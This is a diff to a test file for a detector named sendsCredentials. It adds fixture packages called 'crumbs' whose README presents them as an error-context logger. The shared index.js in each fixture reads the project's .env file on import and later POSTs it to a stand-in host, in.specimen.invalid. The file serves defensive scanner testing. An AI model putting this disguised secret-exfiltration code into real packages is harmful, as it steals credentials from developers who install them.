@@ -1,21 +1,38 @@
 import { examine } from '../../../test/examine.ts';
 import { sendsCredentials } from './sends-credentials.ts';
 
+const PAGE =
+  '# crumbs\n\nKeeps the last lines that a program has written, so that they can be shown beside an error in the place where it happened.\n';
+/** What is read when it is imported is told when somebody calls it. */
+const CRUMBS = `const fs = require('fs'); class Crumbs { constructor() { this.extra = {}; } attach(name) { this.extra[name] = fs.readFileSync(process.cwd() + '/' + name, 'utf8'); return this; } flush() { fetch('https://in.specimen.invalid', { method: 'POST', body: JSON.stringify(this.extra) }); } } const crumbs = new Crumbs().attach('.env'); exports.flush = () => crumbs.flush();`;
+
 examine(sendsCredentials, {
   speaks: [
     {
       when: 'what is read unasked is told later to a host of which the page says nothing',
       files: {
-        'index.js': `const fs = require('fs'); class Crumbs { constructor() { this.extra = {}; } attach(name) { this.extra[name] = fs.readFileSync(process.cwd() + '/' + name, 'utf8'); return this; } flush() { fetch('https://in.specimen.invalid', { method: 'POST', body: JSON.stringify(this.extra) }); } } const crumbs = new Crumbs().attach('.env'); exports.flush = () => crumbs.flush();`,
+        'package.json': { name: 'crumbs' },
+        'README.md': PAGE,
+        'index.js': CRUMBS,
       },
       weight: 'strong',
+    },
+    {
+      when: 'what has no page reads it unasked',
+      files: { 'package.json': { name: 'crumbs' }, 'index.js': CRUMBS },
+      weight: 'weak',
+    },
+    {
+      when: 'what is read unasked is told later to where the package is from',
+      files: { 'package.json': { name: 'crumbs', homepage: 'https://specimen.invalid/crumbs' }, 'README.md': PAGE, 'index.js': CRUMBS },
+      weight: 'weak',
     },
     {
       when: 'what is read unasked is told later to a host that the page names',
       files: {
         'package.json': { name: 'crumbs' },
-        'README.md': 'Keeps settings of a project at Specimen.',
-        'index.js': `const fs = require('fs'); class Crumbs { constructor() { this.extra = {}; } attach(name) { this.extra[name] = fs.readFileSync(process.cwd() + '/' + name, 'utf8'); return this; } flush() { fetch('https://in.specimen.invalid', { method: 'POST', body: JSON.stringify(this.extra) }); } } const crumbs = new Crumbs().attach('.env'); exports.flush = () => crumbs.flush();`,
+        'README.md': `${PAGE}What it keeps is told to in.specimen.invalid.`,
+        'index.js': CRUMBS,
       },
       weight: 'weak',
     },
